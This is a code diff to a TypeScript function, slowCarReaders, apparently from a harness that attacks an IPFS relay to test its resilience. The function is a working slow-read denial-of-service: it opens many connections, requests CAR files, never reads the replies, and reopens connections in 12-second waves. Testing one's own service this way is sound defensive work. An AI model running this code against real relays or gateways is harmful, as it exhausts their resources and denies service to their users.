@@ -85,28 +85,27 @@ export async function slowCarReaders(ctx: AttackContext, n = 100): Promise<void>
     await node.stop()
   }
   const { hostname, port } = new URL(ctx.http)
-  const open = new Set<Socket>()
-  const openOne = (): void => {
-    if (ctx.signal.aborted) return
-    const socket = connect({ host: hostname, port: Number(port), localAddress: ctx.sourceAddress })
-    open.add(socket)
-    socket.on('connect', () => {
-      for (const cid of cids)
-        socket.write(`GET /ipfs/${cid.toString()}?format=car HTTP/1.1\r\nHost: relay\r\nAccept: */*\r\n\r\n`)
-      socket.pause() // and never read: the relay's writes fill the socket buffers, then stall
-      ctx.count('car_readers')
-    })
-    socket.on('error', () => {})
-    socket.on('close', () => {
-      open.delete(socket)
-      if (ctx.signal.aborted) return
-      ctx.count('car_readers_cut')
-      // come back at once, as an attacker would, but not in a hot loop when the relay refuses at once
-      setTimeout(openOne, 250).unref()
+  // a paused socket never reads the relay's FIN, so it cannot tell when the relay cut it: like an attacker who
+  // does not care, drop every socket and open `n` fresh ones every 12 s
+  let open: Socket[] = []
+  const wave = (): void => {
+    for (const s of open) s.destroy()
+    open = Array.from({ length: n }, () => {
+      const socket = connect({ host: hostname, port: Number(port), localAddress: ctx.sourceAddress })
+      socket.on('connect', () => {
+        for (const cid of cids)
+          socket.write(`GET /ipfs/${cid.toString()}?format=car HTTP/1.1\r\nHost: relay\r\nAccept: */*\r\n\r\n`)
+        socket.pause() // and never read: the relay's writes fill the socket buffers, then stall
+        ctx.count('car_readers')
+      })
+      socket.on('error', () => {})
+      return socket
     })
   }
-  for (let i = 0; i < n; i++) openOne()
-  await new Promise<void>((resolve) => ctx.signal.addEventListener('abort', () => resolve(), { once: true }))
+  while (!ctx.signal.aborted) {
+    wave()
+    await sleep(12_000, ctx.signal).catch(() => {})
+  }
   for (const s of open) s.destroy()
 }
 
